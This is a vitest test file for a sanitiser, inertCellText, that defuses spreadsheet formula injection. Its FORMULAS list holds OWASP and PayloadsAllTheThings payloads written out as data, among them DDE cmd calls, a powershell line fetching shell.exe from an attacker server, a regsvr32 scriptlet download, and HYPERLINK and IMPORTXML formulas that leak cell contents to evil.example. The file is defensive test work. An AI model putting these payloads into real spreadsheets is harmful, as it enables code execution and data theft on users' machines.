import { describe, expect, it } from 'vitest';
import { inertCellText } from '../src/spreadsheet.ts';

/** OWASP's CSV injection examples and the payload lists built on them (PayloadsAllTheThings). */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '-2+3',
  '@SUM(1+1)',
  '=cmd|\' /C calc\'!A0',
  '=10+20+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '+2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '=cmd|\' /C notepad\'!\'A1\'',
  '=cmd|\'/C powershell IEX(wget attacker_server/shell.exe)\'!A0',
  '=cmd|\'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0\'!_xlbgnm.A1',
  '=rundll32|\'URL.dll,OpenURL calc.exe\'!A',
  '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll\'!\'\'',
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
  '=HYPERLINK("http://exemplo","Clique")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","A1:B1")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '\t',
  '\r',
  '-',
  '+',
  '=',
  '@',
  '- item',
  '-5',
  // The same behind what an import or a cleanup drops: blanks, line breaks, invisible characters, quotes.
  ' =1+1',
  '   -1+1',
  '\n-1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff@SUM(1+1)',
  '\u202e=1+1',
  '\u0000=1+1',
  '"=1+1',
  '""=1+1',
  '\'=1+1',
  ' " +1+1',
  '\' -2+3',
];

const TEXTS = ['', 'Ana', 'José Antônio "Zé" da Silva', 'a=1', 'Ana - José', '1-1', '10/03/2026', '(11) 98888-7777', 'joana@exemplo.com.br', '%0A-1+1', 'DDE ("cmd";"/C calc";"!A0")A0', '  Ana', '"Zé"', '{"1":"=1+1"}', '[-1]'];

/** A text as a test's name shows it, invisible characters spelled out. */
const shown = (text: string) => JSON.stringify(text).replace(/[^\x20-\x7e]/g, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`);

describe('inertCellText', () => {
  it.each(FORMULAS.map((formula) => [shown(formula), formula]))('keeps %s as text with a leading apostrophe', (_, formula) => {
    expect(inertCellText(formula)).toBe(`'${formula}`);
  });

  it.each(TEXTS.map((text) => [shown(text), text]))('leaves %s as it is', (_, text) => {
    expect(inertCellText(text)).toBe(text);
  });
});
